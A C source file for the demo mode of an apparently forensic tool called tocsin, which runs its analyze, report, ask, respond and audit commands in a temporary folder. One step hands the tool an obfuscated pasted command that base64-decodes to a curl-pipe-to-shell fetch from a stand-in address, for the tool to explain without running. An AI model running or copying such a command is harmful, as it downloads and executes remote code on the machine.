#include "operation/handler.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/file.h"
#include "operation/demo_step.h"
#include "operation/installation.h"

#define STEP_MS_MAX 60000
#define STEP_OUTPUT_MAX (1024U * 1024U)
#define PART_SIZE_MAX (2U * STEP_OUTPUT_MAX)
#define READ_SIZE 4096
#define SLICE_MS 100
#define TITLE_PAUSE_MS 1500
#define LINE_PAUSE_MS 200
#define STEP_PAUSE_MS 2500
#define SHORT_PAUSE_MS 800
#define STEP_LINES_MAX 40  /* of a step that ended otherwise than it should */
#define BACKGROUND_S 2     /* what goes on has begun by then */
#define PLACE_FILES_MAX 16 /* descriptors at once while the temporary folder is taken away */

static const struct step steps[] = {
    {"Evidence in, a report out",
     "Logs, a script and a network capture, recorded on test machines. Nobody tells tocsin\n"
     "what is in them. Status 1 says that something serious was found.",
     {"analyze", "examples/intrusion", "--format", "json", "--output", "report.json"},
     1,
     10},
    {"The page for whoever has to decide",
     "Plain words; behind each sentence the line, packet or byte it rests on.",
     {"report", "report.json"},
     0,
     34},
    {"A question",
     "Answered from the report alone, with citations, or with what is missing.",
     {"ask", "report.json", "was data stolen?"},
     0,
     16},
    {"The plan",
     "What to do, in order: who, what it breaks, how it is undone.",
     {"respond", "report.json"},
     0,
     26},
    {"One pasted command, and what it hides",
     "Nothing of it is run.",
     {"explain", "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2gK | base64 -d | sh"},
     0,
     24},
    {"A refusal",
     "What others have sealed is not opened by owning a machine. The refusal says its reason,\n"
     "its rule, and what would change it; the evidence is not even opened.",
     {"analyze", "--model", "critical", "examples/intrusion"},
     2,
     10},
    {"Who did what",
     "Everything above stands in the audit log of this home, the refusal too.",
     {"access", "audit", "show"},
     0,
     24},
    {"And that nobody has changed it since",
     "Each byte of the log is accounted for, up to what the owner's key has signed.",
     {"access", "audit", "verify"},
     0,
     10},
};

const struct step *demo_intrusion_steps(size_t *count)
{
    *count = sizeof steps / sizeof *steps;
    return steps;
}

struct demo {
    const struct call *call;
    struct answer *answer;
    struct text place; /* the temporary folder; empty while there is none */
    const struct step *steps;
    size_t step_count;
    bool is_access;   /* of a group and its members, not of one person */
    size_t titles;    /* told so far */
    pid_t background; /* a step that goes on; 0 for none */
    int background_output;
    bool nobody_reads;
};

/* ---- a place of its own ---- */

static int take_away(const char *path, const struct stat *about, int kind, struct FTW *where)
{
    IGNORE(about == NULL || kind == FTW_NS || where == NULL, "all goes, whatever it is");
    return remove(path);
}

/* FTW_PHYS: the link to the examples goes, and not what it leads to. */
static void demo_done(struct demo *demo)
{
    if (demo->background > 0) {
        kill(demo->background, SIGKILL);
        while (waitpid(demo->background, NULL, 0) < 0 && errno == EINTR) {
        }
    }
    file_done(&demo->background_output);
    if (demo->place.size > 0 && nftw(text_terminated(&demo->place), take_away, PLACE_FILES_MAX,
                                     FTW_DEPTH | FTW_PHYS) != 0) {
        answer_note(demo->answer, "%s could not be taken away: %s",
                    text_terminated(&demo->place), strerror(errno));
    }
    text_done(&demo->place);
}

static enum status make_folder(struct text *out)
{
    const char *folder = getenv("TMPDIR");
    char path[PATH_MAX];
    AUTO(text_done) struct text name = text_of_limit(sizeof path - 1);
    text_addf(&name, "%s/tocsin-demo-XXXXXX",
              folder != NULL && folder[0] == '/' ? folder : "/tmp");
    TRY(text_status(&name));
    memcpy(path, text_terminated(&name), name.size + 1);
    if (mkdtemp(path) == NULL) {
        return STATUS_IO;
    }
    text_add(out, path);
    return text_status(out);
}

/* The examples appear in it under the name they have everywhere, so that each command can be
 * repeated by hand as it was printed. */
static enum status link_examples(const struct demo *demo)
{
    AUTO(file_done) int examples = -1;
    TRY(installation_open_folder("examples", &examples));
    AUTO(text_done) struct text link = text_of_limit(PATH_MAX);
    text_addf(&link, "/proc/self/fd/%d", examples);
    char target[PATH_MAX];
    ssize_t size = readlink(text_terminated(&link), target, sizeof target - 1);
    AUTO(file_done)
    int place = open(text_terminated(&demo->place), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (size <= 0 || place < 0) {
        return STATUS_IO;
    }
    target[size] = '\0';
    if (symlinkat(target, place, "examples") != 0) {
        return STATUS_IO;
    }
    return demo->is_access ? demo_access_begin(place) : STATUS_OK;
}

static enum status make_place(struct demo *demo)
{
    enum status status = make_folder(&demo->place);
    if (status != STATUS_OK) {
        return answer_fail(demo->answer, status, "there is no room for a temporary folder: %s",
                           strerror(errno));
    }
    status = link_examples(demo);
    if (status != STATUS_OK) {
        return answer_fail(demo->answer, status,
                           "the examples that tocsin comes with are not found: %s",
                           status_name(status));
    }
    return STATUS_OK;
}

/* ---- telling ---- */

static bool is_stopped(const struct demo *demo)
{
    return demo->nobody_reads || stop_is_set(demo->call->stop);
}

static void wait_ms(const struct demo *demo, size_t ms)
{
    if (demo->call->request->is_fast) {
        return;
    }
    const struct timespec slice = {.tv_nsec = SLICE_MS * 1000000L};
    for (size_t waited = 0; waited < ms && !is_stopped(demo); waited += SLICE_MS) {
        nanosleep(&slice, NULL);
    }
}

static enum status tell(struct demo *demo, const struct text *part)
{
    TRY(text_status(part));
    const struct call *call = demo->call;
    if (call->give == NULL) {
        text_add_raw(&demo->answer->body, text_bytes(part));
        return text_status(&demo->answer->body);
    }
    enum status status = call->give(call->context, text_bytes(part));
    demo->nobody_reads = status == STATUS_NOT_FOUND;
    if (status != STATUS_OK && !demo->nobody_reads) {
        return answer_fail(demo->answer, status, "what happens cannot be written: %s",
                           strerror(errno));
    }
    return STATUS_OK;
}

/* As it would be typed; no word of ours holds a quote. */
static void add_command(struct text *out, const struct step *step)
{
    text_add(out, "$ ");
    if (step->home != NULL) {
        text_addf(out, "TOCSIN_HOME=%s ", step->home);
    }
    text_add(out, "tocsin");
    for (size_t i = 0; i < STEP_WORDS_MAX && step->words[i] != NULL; i++) {
        const char *quote = strpbrk(step->words[i], " |?") != NULL ? "'" : "";
        text_addf(out, " %s%s%s", quote, step->words[i], quote);
    }
    text_add_byte(out, '\n');
}

/* The first lines, and how many more there are; returns how many were added. */
static size_t add_cut(struct text *out, struct bytes output, size_t lines_max)
{
    size_t count = 0;
    struct bytes line = BYTES_NONE;
    while (bytes_split(&output, '\n', &line)) {
        if (count < lines_max) {
            text_add_raw(out, line);
            text_add_byte(out, '\n');
        }
        count++;
    }
    if (count <= lines_max) {
        return count;
    }
    text_addf(out, "[cut here: %zu more lines]\n", count - lines_max);
    return lines_max;
}

/* ---- doing ---- */

static enum status start_with(const struct demo *demo, const struct step *step,
                              const char *const *words, int output, pid_t *child)
{
    AUTO(text_done) struct text home = text_of_limit(PATH_MAX);
    text_addf(&home, "TOCSIN_HOME=%s/%s", text_terminated(&demo->place),
              step->home == NULL ? "home" : step->home);
    TRY(text_status(&home));
    const char *environment[] = {text_terminated(&home), "LC_ALL=C.UTF-8", NULL};
    posix_spawn_file_actions_t actions;
    if (posix_spawn_file_actions_init(&actions) != 0) {
        return STATUS_NO_MEMORY;
    }
    bool is_started =
        posix_spawn_file_actions_addopen(&actions, STDIN_FILENO, "/dev/null", O_RDONLY, 0) ==
            0 &&
        posix_spawn_file_actions_adddup2(&actions, output, STDOUT_FILENO) == 0 &&
        posix_spawn_file_actions_adddup2(&actions, output, STDERR_FILENO) == 0 &&
        posix_spawn_file_actions_addchdir_np(&actions, text_terminated(&demo->place)) == 0 &&
        /* posix_spawn changes none of the words. */
        posix_spawn(child, "/proc/self/exe", &actions, NULL, (char *const *)(uintptr_t)words,
                    (char *const *)(uintptr_t)environment) == 0;
    posix_spawn_file_actions_destroy(&actions);
    return is_started ? STATUS_OK : STATUS_IO;
}

static enum status start(const struct demo *demo, const struct step *step, int output,
                         pid_t *child)
{
    const char *words[STEP_WORDS_MAX + 2] = {"tocsin"};
    memcpy(words + 1, step->words, sizeof step->words);
    return start_with(demo, step, words, output, child);
}

/* Until the other end closes; asked to stop, the step is asked too. */
static enum status read_output(const struct demo *demo, int output, pid_t child,
                               struct text *out)
{
    bool is_asked = false;
    for (size_t waited = 0; waited < STEP_MS_MAX;) {
        if (is_stopped(demo) && !is_asked) {
            kill(child, SIGTERM);
            is_asked = true;
        }
        struct pollfd ready = {.fd = output, .events = POLLIN};
        if (poll(&ready, 1, SLICE_MS) <= 0) {
            waited += SLICE_MS;
            continue;
        }
        uint8_t buffer[READ_SIZE];
        ssize_t size = read(output, buffer, sizeof buffer);
        if (size == 0) {
            return STATUS_OK;
        }
        if (size > 0) {
            text_add_raw(out, (struct bytes){buffer, (size_t)size});
            TRY(text_status(out));
        } else if (errno != EINTR) {
            return STATUS_IO;
        }
    }
    return STATUS_LIMIT;
}

/* What it says on either of its outputs becomes `out`. */
static enum status await(const struct demo *demo, int output, pid_t child, struct text *out,
                         int *ended_with)
{
    enum status status = read_output(demo, output, child, out);
    if (status != STATUS_OK) {
        kill(child, SIGKILL);
    }
    int ended = 0;
    while (waitpid(child, &ended, 0) < 0 && errno == EINTR) {
    }
    *ended_with = WIFEXITED(ended) ? WEXITSTATUS(ended) : -1;
    return status;
}

/* Has this same program do the step, as a person would start it. */
static enum status perform(struct demo *demo, const struct step *step, struct text *out,
                           int *ended_with)
{
    if (step->is_awaited) {
        pid_t child = demo->background;
        demo->background = 0;
        return await(demo, demo->background_output, child, out, ended_with);
    }
    int ends[2];
    if (pipe2(ends, O_CLOEXEC) != 0) {
        return STATUS_IO;
    }
    AUTO(file_done) int output = ends[0];
    pid_t child = 0;
    enum status status = start(demo, step, ends[1], &child);
    close(ends[1]);
    TRY(status);
    if (!step->goes_on) {
        return await(demo, output, child, out, ended_with);
    }
    demo->background = child;
    demo->background_output = output;
    output = -1;
    *ended_with = step->ends_with; /* so far */
    nanosleep(&(struct timespec){.tv_sec = BACKGROUND_S}, NULL);
    return STATUS_OK;
}

static size_t count_titles(const struct demo *demo)
{
    size_t count = 0;
    for (size_t i = 0; i < demo->step_count; i++) {
        count += demo->steps[i].title != NULL;
    }
    return count;
}

static enum status tell_step(struct demo *demo, const struct step *step)
{
    AUTO(text_done) struct text part = text_of_limit(PART_SIZE_MAX);
    if (step->title != NULL) {
        demo->titles++;
        text_addf(&part, "\n== %zu of %zu: %s ==\n%s\n\n", demo->titles, count_titles(demo),
                  step->title, step->why);
    }
    if (step->is_awaited) {
        text_add(&part, "(the analysis that was running)\n");
    } else {
        add_command(&part, step);
    }
    TRY(tell(demo, &part));
    if (step->title != NULL) {
        wait_ms(demo, TITLE_PAUSE_MS);
    }
    return STATUS_OK;
}

/* Of a step that is only on the way nothing is told but the command. */
static enum status tell_result(struct demo *demo, const struct step *step, struct bytes output,
                               int ended_with)
{
    AUTO(text_done) struct text part = text_of_limit(PART_SIZE_MAX);
    bool is_right = ended_with == step->ends_with;
    if (step->goes_on || (is_right && step->lines_max == 0)) {
        return STATUS_OK;
    }
    size_t lines = add_cut(&part, output, is_right ? step->lines_max : STEP_LINES_MAX);
    text_addf(&part, "[status %d]\n", ended_with);
    if (is_right && step->outcome != NULL) {
        text_addf(&part, "-> %s\n", step->outcome);
    }
    TRY(tell(demo, &part));
    if (is_right) {
        wait_ms(demo,
                (demo->is_access ? SHORT_PAUSE_MS : STEP_PAUSE_MS) + lines * LINE_PAUSE_MS);
    }
    return STATUS_OK;
}

static enum status show_step(struct demo *demo, size_t index)
{
    const struct step *step = &demo->steps[index];
    AUTO(text_done) struct text output = text_of_limit(STEP_OUTPUT_MAX);
    int ended_with = -1;
    TRY(tell_step(demo, step));
    enum status status =
        is_stopped(demo) ? STATUS_OK : perform(demo, step, &output, &ended_with);
    if (is_stopped(demo)) {
        return STATUS_OK;
    }
    TRY(tell_result(demo, step, text_bytes(&output), ended_with));
    return status == STATUS_OK && ended_with == step->ends_with
               ? STATUS_OK
               : answer_fail(demo->answer, status == STATUS_OK ? STATUS_CONFLICT : status,
                             "this step should have ended with %d; the demonstration ends here",
                             step->ends_with);
}

static enum status show(struct demo *demo)
{
    AUTO(text_done) struct text part = text_of_limit(PART_SIZE_MAX);
    text_add(&part,
             demo->is_access
                 ? "How a group grants its members what attackers should not read: each "
                   "command below is really\nrun, in temporary homes, one for each who "
                   "takes part.\n"
                 : "What tocsin does, on the evidence it comes with: each command below is "
                   "really run, in a\ntemporary home, and what it prints is what you "
                   "see.\n");
    TRY(tell(demo, &part));
    for (size_t i = 0; i < demo->step_count && !is_stopped(demo); i++) {
        TRY(show_step(demo, i));
    }
    if (demo->nobody_reads) {
        return STATUS_OK;
    }
    if (is_stopped(demo)) {
        return answer_fail(demo->answer, STATUS_CONFLICT, "stopped");
    }
    text_clear(&part);
    text_add(&part, demo->is_access
                        ? "\nThat was all; the temporary homes are taken away.\n"
                        : "\nThat was all; the temporary home is taken away. The same with "
                          "evidence of your own:\n\n    tocsin analyze PATH...\n");
    return tell(demo, &part);
}

enum status demo_run(const struct call *call, const struct access_grant *grant,
                     struct answer *answer)
{
    if (!access_grant_covers(grant, "demo")) {
        return STATUS_DENIED;
    }
    const struct request *request = call->request;
    AUTO(demo_done)
    struct demo demo = {.call = call,
                        .answer = answer,
                        .place = text_of_limit(PATH_MAX),
                        .is_access = request->operand_count > 0,
                        .background_output = -1};
    if (demo.is_access && strcmp(request->operands[0], "access") != 0) {
        return answer_fail(answer, STATUS_NOT_FOUND,
                           "there is no demonstration '%s': there is 'access', and one without "
                           "a name",
                           request->operands[0]);
    }
    demo.steps = demo.is_access ? demo_access_steps(&demo.step_count)
                                : demo_intrusion_steps(&demo.step_count);
    TRY(make_place(&demo));
    return show(&demo);
}
